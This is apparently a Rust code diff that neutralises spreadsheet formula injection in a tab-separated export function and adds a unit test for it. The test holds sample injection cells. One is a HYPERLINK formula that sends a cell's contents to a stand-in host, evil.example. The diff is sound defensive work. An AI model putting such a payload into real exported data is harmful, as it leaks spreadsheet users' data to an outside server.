@@ -147,11 +147,15 @@ pub fn sort(index: &Index, items: &mut Vec<usize>, order: Order) {
 }
 
 /// Rows as tab-separated lines that paste into a spreadsheet as columns: each cell made one
-/// line without tabs or control characters.
+/// line without tabs or control characters, and a text cell that a spreadsheet would run as a
+/// formula made text (see [`crate::formula`]).
 pub fn tsv(rows: &[Vec<String>]) -> String {
     let mut out = String::new();
     for row in rows {
-        let cells: Vec<_> = row.iter().map(|c| sanitize::line(c)).collect();
+        let cells: Vec<_> = row
+            .iter()
+            .map(|c| sanitize::line(&crate::formula::neutralise(c)).into_owned())
+            .collect();
         out.push_str(&cells.join("\t"));
         out.push('\n');
     }
@@ -190,6 +194,23 @@ mod tests {
         assert_eq!(lines.len(), 2);
         assert_eq!(lines[0].split('\t').count(), 2);
         assert_eq!(lines[1], "e\t");
+    }
+
+    #[test]
+    fn tsv_cells_are_never_formulas() {
+        let rows = vec![vec![
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".to_string(),
+            "@SUM(1+1)".into(),
+            "-5".into(),
+            "\t=1+1".into(),
+        ]];
+        let text = tsv(&rows);
+        let cells: Vec<&str> = text.trim_end().split('\t').collect();
+        assert_eq!(cells.len(), 4, "{text:?}");
+        assert!(cells[0].starts_with("'=HYPERLINK("), "{text:?}");
+        assert_eq!(cells[1], "'@SUM(1+1)");
+        assert_eq!(cells[2], "-5", "a number stays a number");
+        assert!(cells[3].starts_with('\''), "{text:?}");
     }
 
     #[test]
